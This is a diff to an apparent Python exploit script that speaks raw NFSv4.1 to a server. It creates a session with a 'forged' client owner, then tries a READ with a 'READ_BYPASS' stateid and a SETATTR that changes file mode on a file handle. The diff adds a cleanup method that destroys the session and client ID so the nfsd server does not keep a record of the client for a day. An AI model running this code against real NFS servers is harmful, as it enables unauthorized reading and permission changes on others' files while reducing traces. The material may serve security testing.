@@ -14,7 +14,7 @@ import struct
 import sys
 
 GETFH, LOOKUP, PUTFH, PUTROOTFH, READ, SETATTR = 10, 15, 22, 24, 25, 34
-EXCHANGE_ID, CREATE_SESSION, SEQUENCE, RECLAIM_COMPLETE = 42, 43, 53, 58
+EXCHANGE_ID, CREATE_SESSION, DESTROY_SESSION, SEQUENCE, DESTROY_CLIENTID, RECLAIM_COMPLETE = 42, 43, 44, 53, 57, 58
 NFS, COMPOUND = 100003, 1
 # Bytes of a result behind its status; every other result is the last of its call.
 FIXED = {SEQUENCE: 36, RECLAIM_COMPLETE: 0, PUTROOTFH: 0, PUTFH: 0, LOOKUP: 0}
@@ -47,6 +47,7 @@ class Session:
         self.socket.connect((host, 2049))
         owner = os.urandom(8) + opaque(b"forged " + os.urandom(8).hex().encode())
         client = self._compound([(EXCHANGE_ID, owner + struct.pack(">III", 0, 0, 0))])[0]
+        self.client = client[:8]
         channel = struct.pack(">7I", 0, 65536, 65536, 4096, 8, 1, 0)
         create = client[:12] + struct.pack(">I", 0) + channel + channel + struct.pack(">III", 0x40000000, 1, 0)
         self.id = self._compound([(CREATE_SESSION, create)])[0][:16]
@@ -57,6 +58,12 @@ class Session:
         """What each operation returned; Refused with the status of the one that failed."""
         self.sequence += 1
         return self._compound([(SEQUENCE, self.id + struct.pack(">IIII", self.sequence, 0, 0, 0)), *operations])[1:]
+
+    def end(self) -> None:
+        """Leave: the kernel would know this client, and count its connections, for a day (fs/nfsd courtesy clients)."""
+        self._compound([(DESTROY_SESSION, self.id)])
+        self._compound([(DESTROY_CLIENTID, self.client)])
+        self.socket.close()
 
     def _compound(self, operations: list[tuple[int, bytes]]) -> list[bytes]:
         body = opaque(b"") + struct.pack(">II", 1, len(operations))
@@ -133,6 +140,7 @@ def main() -> None:
         put = (PUTFH, opaque(one))
         read = status(session, put, (READ, READ_BYPASS + struct.pack(">QI", 0, 4096)))
         print(read, status(session, put, (SETATTR, bytes(16) + MODE)))
+    session.end()
 
 
 if __name__ == "__main__":
